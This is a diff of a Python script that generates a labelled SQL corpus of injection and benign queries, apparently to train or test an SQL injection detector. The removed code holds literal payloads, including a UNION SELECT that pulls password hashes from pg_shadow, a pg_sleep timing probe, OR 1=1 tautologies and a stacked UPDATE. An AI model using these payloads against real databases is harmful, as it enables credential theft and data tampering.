-                name, mode, core, dbms = rng.choice(cands)
-                pl = breakout(rng, si, rng.choice(si["orig"]), mode, core)
-                if pl is None:
-                    continue
-            pl2 = obfuscate(rng, fam, pl, si["type"])
-            if pl2 == pl:
-                continue
-            if attack(tpl, slot, pl2, fam, "%s:%s:%s" % (fam, base, name), dbms):
-                got += 1
-
-    # --- comment truncation: close the slot and comment out the rest of the statement
-    got = tries = 0
-    while got < ATTACK_TARGET["comment_truncation"] and tries < 80000:
-        tries += 1
-        tpl, slot = pick()
-        si = slot_info(tpl, slot)
-        if not si["tail_means"] or si["between_lo"]:
-            continue
-        typ, cl = si["type"], si["closers"]
-        orig = rng.choice(si["orig"] + (["admin", "", "root", "guest"] if typ in ("q", "e") else []))
-        style, c = rng.choice(TRUNC_STYLES)
-        if c is None:
-            c = "-- " + rword(rng, 4) if style == "dashdash_space_word" else "/* " + rword(rng, 5)
-        full = si["cut"] if si["cut"] is not None else cl
-        if typ in ("q", "e", "d", "qi"):
-            close = CLOSER[typ] + (full if rng.random() < 0.85 else "")
-        elif typ in ("n", "list"):
-            close = full if full and rng.random() < 0.8 else ""
-        else:
-            close = ""
-        pl = orig + close + rng.choice(["", " ", "  "]) + c
-        if attack(tpl, slot, pl, "comment_truncation", "comment_truncation:%s:%s" % (typ, style), need_tail=True):
-            got += 1
-            string_payloads.append((pl, "comment_truncation:%s" % style))
-
-    # --- escape bypass: the application escapes quotes the wrong way for its literal
-    addslashes = lambda v: v.replace("\\", "\\\\").replace("'", "\\'").replace('"', '\\"')
-    doubling = lambda v: v.replace("'", "''")
-    bypass = [("addslashes_into_standard_string", "t14_wpdb_options", "a", "woodburner_policy' OR 1=1 -- "),
-              ("doubling_into_e_string", "t14_jdbctemplate_diagnosis", "a", "\\'; UPDATE tack_repair_queue SET claimed_by = NULL; -- "),
-              ("addslashes_into_standard_string", "t14_pgmoon_pigments", "b", "ox gall' UNION SELECT usename, passwd FROM pg_shadow -- "),
-              ("doubling_into_e_string", "t14_diesel_splice_note", "a", "\\' || (SELECT string_agg(usename, chr(44)) FROM pg_user) -- "),
-              ("addslashes_into_standard_string", "t14_ecto_runs", "a", "nursery') OR true -- "),
-              ("addslashes_into_standard_string", "t14_laravel_finds", "a", "T. aestivum' AND 1=(SELECT 1 FROM pg_sleep(4)) -- ")]
-    got = 0
-    for var, tname, slot, p, fn in [(v, t, s, p, addslashes if v.startswith("addslashes") else doubling) for v, t, s, p in bypass]:
-        if got >= ATTACK_TARGET["escape_bypass_backslash"]:
-            break
-        if attack(TPL[tname], slot, p, "escape_bypass_backslash", "escape_bypass_backslash:" + var, escf={slot: fn}):
-            got += 1
-
-    # ---------------- benign
-    def allowed(tpl, slot, val):
-        typ = spec(tpl, slot)[0]
-        if typ == "d" and (TAG in val or val.endswith("$note") or val.endswith("$")):
-            return False
-        return "\x00" not in val
-
-    str_pairs = [(t, k) for t, k in pairs if spec(t, k)[0] in STRING_TYPES and not kind(t, k)]
-    typed_pairs = [(t, k) for t, k in pairs if kind(t, k)]
-    num_pairs = [(t, k) for t, k in pairs if spec(t, k)[0] in ("n", "list")]
-    id_pairs = [(t, k) for t, k in pairs if spec(t, k)[0] in ("col", "dir", "ident")]
-
-    def benign(tpl, slot, val, fam, variant):
-        if not allowed(tpl, slot, val):
-            return False
-        f = fills(tpl)
-        f[slot] = val
-        sql = render(tpl, f)
-        if skeleton(sql) not in ref_skeletons(tpl):
-            return False
-        return emit(sql, "benign", fam, tpl[0], val, [f[k] for k in sorted(tpl[2])], variant)
-
-    for fam, target_n in INPUT_TARGET.items():
-        got = tries = 0
-        kinds_here = [(t, k) for t, k in typed_pairs if KIND_FAMILY[kind(t, k)] == fam]
-        while got < target_n and tries < 80000:
-            tries += 1
-            if kinds_here and rng.random() < 0.4:
-                tpl, slot = rng.choice(kinds_here)
-                val, f2 = typed_value(rng, kind(tpl, slot))
-                if f2 != fam:
-                    continue
-            elif fam == "input_numeric":
-                tpl, slot = rng.choice(num_pairs)
-                si = slot_info(tpl, slot)
-                if spec(tpl, slot)[0] == "list":
-                    val = rng.choice([", ", ",", " ,"]).join(str(rng.randint(1, 99999)) for _ in range(rng.randint(1, 7)))
-                else:
-                    val = rng.choice([str(rng.randint(0, 9999)), str(rng.randint(1, 90)), "%d.%02d" % (rng.randint(0, 900), rng.randint(0, 99)),
-                                      "%.3f" % rng.uniform(0, 5), str(rng.randint(10 ** 6, 10 ** 9)), "0", "-%d" % rng.randint(1, 500), "%de%d" % (rng.randint(1, 9), rng.randint(1, 4))])
-                    strict = si["in_limit"] or si["slice"] or si["lead"] == "SET" or tpl[0] == "t14_pdo_trylock"
-                    if strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6):
-                        continue
-            elif fam == "input_identifier":
-                tpl, slot = rng.choice(id_pairs)
-                typ = spec(tpl, slot)[0]
-                val = rng.choice(spec(tpl, slot)[1] + (CANON[typ] if typ == "dir" else []))
-            else:
-                tpl, slot = rng.choice(str_pairs)
-                typ = spec(tpl, slot)[0]
-                if typ == "qi" and fam not in ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"):
-                    continue
-                if fam == "input_long_text":
-                    val = " ".join(rng.sample(SENTS, rng.randint(2, 5)))
-                elif fam == "input_formatted" and rng.random() < 0.5:
-                    val = rng.choice(["%s-%05d" % (rword(rng, 3, upper=True), rng.randint(0, 99999)), "%012X" % rng.getrandbits(48),
-                                      "+47 %03d %02d %03d" % (rng.randint(0, 999), rng.randint(0, 99), rng.randint(0, 999)), "%032x" % rng.getrandbits(128),
-                                      "%d.%d.%d" % (rng.randint(0, 12), rng.randint(0, 40), rng.randint(0, 99)), "%02d.%02d.%d" % (rng.randint(1, 28), rng.randint(1, 12), rng.randint(2018, 2029)),
-                                      "TM-%d-%04d" % (rng.randint(2019, 2026), rng.randint(0, 9999)), "%d mm × %d m" % (rng.randint(6, 48), rng.randint(10, 220))])
-                elif fam == "input_plain" and rng.random() < 0.4:
-                    val = rng.choice(POOLS["input_plain"]).split()[0] + " " + rng.choice(POOLS["input_plain"]).split()[-1]
-                else:
-                    val = rng.choice(POOLS[fam])
-            if benign(tpl, slot, val, fam, "benign:" + fam[6:]):
-                got += 1
-    got = tries = 0
-    while got < ESCAPED_TARGET and tries < 80000:
-        tries += 1
-        pl, var = rng.choice(string_payloads)
-        tpl, slot = rng.choice(str_pairs)
-        if benign(tpl, slot, pl, "escaped_attack_string", "escaped:" + var):
-            got += 1
-    G = complex_gens()
-    for fam, target_n in COMPLEX_TARGET.items():
-        gens = [g for g in G if g[1] == fam]
-        got = tries = 0
-        while got < target_n and tries < 8000:
-            tries += 1
-            name, _, fn = rng.choice(gens)
-            if emit(fn(rng), "benign", fam, name, None, [], "complex:" + name[5:]):
-                got += 1
-    reg = regress_rows(rng)
-    rng.shuffle(reg)
-    got = 0
-    for tname, s in reg:
-        if got >= REGRESS_TARGET:
-            break
-        if emit(s, "benign", "pg_regress", tname, None, [], tname):
-            got += 1
-
-    rng.shuffle(rows)
-    out = write_corpus(out_path, rows, "f14-%06d", "fourteenth")
-    print_summary(out, (ATTACK_TARGET, INPUT_TARGET, COMPLEX_TARGET, {"escaped_attack_string": ESCAPED_TARGET, "pg_regress": REGRESS_TARGET}),
-                  collector.skipped)
+    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
+    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
+    corpus.benign_rows(input_value, complex_gens(), regress_rows)
+    corpus.write(HERE, "f14-%06d", "fourteenth")
 
 
 if __name__ == "__main__":
